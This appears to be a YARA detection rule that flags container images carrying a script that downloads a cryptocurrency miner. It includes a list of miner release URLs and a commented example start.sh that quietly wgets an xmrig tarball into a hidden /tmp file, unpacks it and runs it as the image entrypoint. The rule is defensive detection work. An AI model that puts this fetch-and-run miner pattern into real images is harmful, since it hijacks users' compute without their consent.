rule miner_fetch_script : script
{
    meta:
        title = "carry a script that fetches a miner's release"
        explanation = "A script fetches the release of a miner and makes it a program. Nothing of it shows in the image before it starts. Whoever runs the image mines."
        class = "malware"
        severity = "high"
        confidence = "medium"
        attack = "T1496.001, T1105"
        reference = "https://github.com/docker/hub-feedback/issues/2379"
    strings:
        $xmrig = "github.com/xmrig/xmrig/releases/download"
        $mo = "github.com/MoneroOcean/xmrig/releases/download"
        $mo2 = "moneroocean/xmrig_setup"
        $ccminer = "github.com/tpruvot/ccminer/releases/download"
        $srb = "github.com/doktor83/SRBMiner-Multi/releases/download"
        $lol = "github.com/Lolliedieb/lolMiner-releases/releases/download"
        $trex = "github.com/trexminer/T-Rex/releases/download"
        $chmod = "chmod "
        $tar = "tar "
        $unzip = "unzip "
        $sh = "| bash"
    condition:
        uint16(0) == 0x2123 and filesize < 256KB and
        1 of ($xmrig, $mo*, $ccminer, $srb, $lol, $trex) and 1 of ($chmod, $tar, $unzip, $sh)
}

/* example: fires on a script that fetches the release under another name
    FILE /start.sh 0755
        #!/bin/bash
        wget -q https://github.com/xmrig/xmrig/releases/download/v6.0.0/xmrig.tar.gz -O /tmp/.k.tgz
        tar xzf /tmp/.k.tgz -C /tmp
    ENTRYPOINT ["/start.sh"]
*/
/* example: quiet on a list of addresses and a script that blocks them
    FILE /etc/deny/urls.txt
        github.com/xmrig/xmrig/releases/download
    FILE /usr/local/bin/deny.sh 0755
        #!/bin/sh
        while read url; do deny "$url"; done < /etc/deny/urls.txt
*/
